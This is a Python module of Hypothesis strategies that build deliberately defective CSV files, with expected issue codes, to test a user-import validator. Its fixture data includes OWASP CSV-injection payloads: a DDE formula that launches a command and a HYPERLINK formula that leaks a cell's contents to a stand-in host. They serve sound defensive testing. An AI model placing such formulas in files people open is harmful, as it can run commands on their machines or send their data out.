"""Files with known defects and the issue codes ``prepare`` reports for them.

Private building blocks of :func:`userimport.strategies.defective_csv_files`: the
defect of each row-level code, the files wrong as a whole (header, row count,
quoting) and the files that cannot be read at all. Each is judged against the
sample tree and the manager of Spain (:mod:`userimport._samples`), an empty store
and the default options.
"""

from __future__ import annotations

import codecs
from collections.abc import Sequence
from typing import Final

from hypothesis import strategies as st

from userimport._drawn_files import (
    UNKNOWN_HEADERS,
    encode,
    encodings,
    header,
    layouts,
    look,
    not_example,
    write,
)
from userimport._drawn_users import ASCII_EMAILS, EMAILS, NAMES, WESTERN_NAMES, users_of
from userimport._samples import SAMPLE_MANAGER, SAMPLE_ORGS
from userimport.issues import IssueCode
from userimport.schema import COLUMNS, EXAMPLE_ROWS, REQUIRED_COLUMNS, Role, UserRow

__all__ = ["UNREADABLE_FILES", "header_defect_files", "row_defect_files"]

# Payloads of OWASP "CSV Injection": formulas, Dynamic Data Exchange, full-width
# forms, and a formula behind spaces. Validation rejects each as a name
# (invalid_characters); the error report must write each back harmlessly.
_FORMULAS: Final = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
)

#: Row defects by the code they produce: the column and the bad cell. Each leaves
#: the rest of its row valid, so the row gets that code and no other.
_ROW_DEFECTS: Final[dict[IssueCode, tuple[tuple[str, str], ...]]] = {
    IssueCode.MISSING_VALUE: (
        ("first_name", ""),
        ("last_name", "   "),
        ("email", ""),
    ),
    IssueCode.VALUE_TOO_LONG: (
        ("first_name", "A" * 101),
        ("last_name", "Garcia " * 20),
        ("groups", "Sales; " + "G" * 101),
    ),
    IssueCode.INVALID_CHARACTERS: (
        *(("first_name", formula) for formula in _FORMULAS),
        ("last_name", "Garc\u200bía"),
        ("last_name", "Garc\u202eía"),
        ("first_name", "Ana\nMaría"),
        ("first_name", "Ana\tMaría"),
        ("groups", 'Sales; =HYPERLINK("http://example.com")'),
        ("organization", "Madrid\u200b"),
    ),
    IssueCode.INVALID_EMAIL: (
        ("email", "not-an-email"),
        ("email", "ana@"),
        ("email", "ana@@example.com"),
        ("email", "ana@example"),
        ("email", "ana garcia@example.com"),
        ("email", "ana..garcia@example.com"),
        ("email", "ana@example.test"),
    ),
    IssueCode.UNKNOWN_ORGANIZATION: (
        ("organization", "Atlantis"),
        ("organization", "Mexico"),  # it exists, outside the manager's subtree
        ("organization", "mx-cdmx"),
        ("organization", "Acme / Mexico"),
        ("organization", "Sales / Madrid"),
    ),
    IssueCode.AMBIGUOUS_ORGANIZATION: (
        ("organization", "Sales"),
        ("organization", " SALES "),
    ),
    IssueCode.INVALID_ROLE: (
        ("role", "wizard"),
        ("role", "superuser"),
        ("role", "learner; admin"),
    ),
    IssueCode.ROLE_NOT_ALLOWED: (
        ("role", "admin"),
        ("role", "Administrador"),
    ),
    IssueCode.INVALID_LANGUAGE: (
        ("language", "klingon"),
        ("language", "xx"),
        ("language", "en-ZZ"),
        ("language", "english"),
    ),
}

_SAMPLE_SCOPE: Final = sorted(SAMPLE_ORGS.subtree_ids(SAMPLE_MANAGER.org_id))


def _canonical_cells(user: UserRow) -> dict[str, str]:
    """The plain spelling of a valid user's cells."""
    return {
        "first_name": user.first_name,
        "last_name": user.last_name,
        "email": user.email,
        "organization": user.organization,
        "role": user.role.value,
        "groups": "; ".join(user.groups),
        "language": user.language or "",
    }


def _file_encodings(text: str, delimiter: str) -> st.SearchStrategy[str]:
    """The Unicode encodings that carry ``text``: no guess when it is read."""
    return encodings(text, delimiter, ascii_references=True).filter(
        lambda name: name != "cp1252"
    )


def _defect_codes(draw: st.DrawFn) -> list[IssueCode]:
    special = (
        IssueCode.DUPLICATE_EMAIL,
        IssueCode.EXAMPLE_ROW,
        IssueCode.WRONG_FIELD_COUNT,
    )
    return draw(
        st.lists(st.sampled_from([*_ROW_DEFECTS, *special]), min_size=1, max_size=5)
    )


@st.composite
def row_defect_files(draw: st.DrawFn) -> tuple[bytes, frozenset[IssueCode]]:
    """A readable file whose rows carry defects, each producing one known code."""
    codes = _defect_codes(draw)
    western = draw(st.booleans())
    valid = draw(st.integers(1 if IssueCode.DUPLICATE_EMAIL in codes else 0, 3))
    users = draw(
        st.lists(
            users_of(
                st.sampled_from(_SAMPLE_SCOPE),
                SAMPLE_MANAGER.role,
                WESTERN_NAMES if western else NAMES,
                ASCII_EMAILS if western else EMAILS,
            ).filter(not_example),
            min_size=valid + len(codes),
            max_size=valid + len(codes),
            unique_by=look,
        )
    )
    columns = draw(st.permutations(COLUMNS))
    headers = [draw(header(column)) for column in columns]
    unknown = draw(st.lists(st.sampled_from(UNKNOWN_HEADERS), max_size=1))
    width = len(columns) + len(unknown)

    def record(cells: dict[str, str]) -> list[str]:
        return [*(cells[c] for c in columns), *("" for _ in unknown)]

    sources = [_canonical_cells(user) for user in users[:valid]]
    rows = [record(cells) for cells in sources]
    later: list[list[str]] = []
    for code, user in zip(codes, users[valid:], strict=True):
        cells = _canonical_cells(user)
        if code is IssueCode.EXAMPLE_ROW:
            cells = dict(draw(st.sampled_from(EXAMPLE_ROWS)))
        elif code is IssueCode.WRONG_FIELD_COUNT:
            extra = draw(st.sampled_from((["extra"], ["", "x"], ["a", "b"])))
            rows.append([*record(cells), *extra])
            continue
        elif code is IssueCode.DUPLICATE_EMAIL:
            # The same address as an earlier valid row, maybe in other case: the
            # key ignores case, and only the later row is at fault.
            cells = dict(draw(st.sampled_from(sources)))
            address = cells["email"]
            if address.isascii():
                cells["email"] = draw(st.sampled_from((address, address.upper())))
            later.append(record(cells))
            continue
        else:
            column, value = draw(st.sampled_from(_ROW_DEFECTS[code]))
            cells[column] = value
        rows.append(record(cells))
    rows = [*draw(st.permutations(rows)), *later]
    records: list[list[str]] = [[*headers, *unknown]]
    for row in rows:
        if draw(st.integers(0, 4)) == 0:
            records.append(draw(st.sampled_from(([], [""] * width))))
        records.append(row)
    layout = draw(layouts())
    text = write(layout, records)
    # Valid rows name their organization by id (ASCII); a defective one stays
    # unknown however it is read. Whether the reading of a legacy file with
    # accented letters was a close call (the warning encoding_guessed) is the
    # reader's judgment of the names, so such a file is never drawn in cp1252: the
    # codes stay exact.
    encoding = draw(
        encodings(text, layout.delimiter, ascii_references=True).filter(
            lambda name: name != "cp1252" or text.isascii()
        )
    )
    expected = set(codes)
    if unknown:
        expected.add(IssueCode.UNKNOWN_COLUMNS)
    return encode(text, encoding), frozenset(expected)


_EMPTY_FILES: Final = (
    b"",
    b"\r\n",
    b"\n\n\n",
    b"   \r\n",
    b",,,\r\n;;\r\n",
    codecs.BOM_UTF8,
)

# Signatures of files that are not CSV text, each followed by any bytes.
_BINARY_HEADS: Final = (
    b"PK\x03\x04\x14\x00\x06\x00xl/workbook.xml",  # Excel XLSX
    b"PK\x03\x04\x14\x00\x00\x00mimetypeapplication/vnd.oasis.opendocument.spreadsheet",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",  # Excel 97-2003 (OLE)
    b"%PDF-1.7\n",
    b"\x89PNG\r\n\x1a\n",
    b"\x1f\x8b\x08\x00",  # gzip
)

_HEADER_LINE: Final = "first_name,last_name,email\r\n"
_UNDECODABLE_FILES: Final = (
    # A UTF-8 byte-order mark, then cp1252 text.
    codecs.BOM_UTF8
    + (_HEADER_LINE + "José,García,jose@example.com\r\n").encode("cp1252"),
    # UTF-16 cut in the middle of a code unit.
    codecs.BOM_UTF16_LE + _HEADER_LINE.encode("utf-16-le") + b"A",
    # UTF-16 with a lone surrogate.
    codecs.BOM_UTF16_LE + _HEADER_LINE.encode("utf-16-le") + b"\x00\xd8A\x00",
    # UTF-32 with a surrogate code point.
    codecs.BOM_UTF32_BE + _HEADER_LINE.encode("utf-32-be") + b"\x00\x00\xd8\x00",
)


@st.composite
def _simple_rows(
    draw: st.DrawFn, columns: Sequence[str], count: int
) -> list[list[str]]:
    """``count`` valid-looking records for ``columns`` (never validated: the file
    has a file-level error)."""
    users = draw(
        st.lists(
            users_of(st.sampled_from(_SAMPLE_SCOPE), Role.LEARNER, NAMES, EMAILS),
            min_size=count,
            max_size=count,
        )
    )
    return [[_canonical_cells(user).get(c, "x") for c in columns] for user in users]


@st.composite
def header_defect_files(draw: st.DrawFn) -> tuple[bytes, frozenset[IssueCode]]:
    """A file whose header, rows or structure is wrong as a whole."""
    kind = draw(
        st.sampled_from(
            (
                IssueCode.MISSING_COLUMNS,
                IssueCode.DUPLICATE_COLUMNS,
                IssueCode.NO_ROWS,
                IssueCode.TOO_MANY_ROWS,
                IssueCode.MALFORMED_CSV,
            )
        )
    )
    columns = list(draw(st.permutations(COLUMNS)))
    if kind is IssueCode.MISSING_COLUMNS:
        # At least one required column is left, so the header is still recognised
        # as one whatever the delimiter.
        missing = draw(
            st.sets(st.sampled_from(REQUIRED_COLUMNS), min_size=1, max_size=2)
        )
        columns = [c for c in columns if c not in missing]
    headers = [draw(header(column)) for column in columns]
    if kind is IssueCode.DUPLICATE_COLUMNS:
        twice = draw(st.sampled_from(COLUMNS))
        at = draw(st.integers(0, len(headers)))
        headers.insert(at, draw(header(twice)))
        columns.insert(at, twice)
    unknown = draw(st.lists(st.sampled_from(UNKNOWN_HEADERS), max_size=1))
    if kind is IssueCode.NO_ROWS:
        body = []
    elif kind is IssueCode.TOO_MANY_ROWS:
        # One more than the default max_rows; plain rows, as none is validated.
        body = [
            [f"user{n}@example.com" if c == "email" else f"{c} {n}" for c in columns]
            for n in range(201)
        ]
    else:
        body = draw(_simple_rows(columns, draw(st.integers(1, 3))))
    records = [[*headers, *unknown], *([*row, *("" for _ in unknown)] for row in body)]
    if kind is IssueCode.NO_ROWS:
        records.extend([] for _ in range(draw(st.integers(0, 2))))
    layout = draw(layouts())
    text = write(layout, records)
    if kind is IssueCode.MALFORMED_CSV:
        d = layout.delimiter
        text += draw(
            st.sampled_from(
                (
                    f'Ana{d}"García{d}ana@example.com{layout.line_end}',  # never closed
                    f'"Ana"x{d}García{d}ana@example.com{layout.line_end}',  # text after
                )
            )
        )
    expected = {kind}
    if unknown:
        expected.add(IssueCode.UNKNOWN_COLUMNS)
    encoding = draw(_file_encodings(text, layout.delimiter))
    return encode(text, encoding), frozenset(expected)


def _fixed(data: bytes, code: IssueCode) -> tuple[bytes, frozenset[IssueCode]]:
    return data, frozenset({code})


UNREADABLE_FILES: Final = st.one_of(
    st.sampled_from(_EMPTY_FILES).map(lambda data: _fixed(data, IssueCode.EMPTY_FILE)),
    st.builds(
        lambda head, tail: _fixed(head + tail, IssueCode.BINARY_FILE),
        st.sampled_from(_BINARY_HEADS),
        st.binary(max_size=64),
    ),
    st.sampled_from(_UNDECODABLE_FILES).map(
        lambda data: _fixed(data, IssueCode.UNDECODABLE)
    ),
)
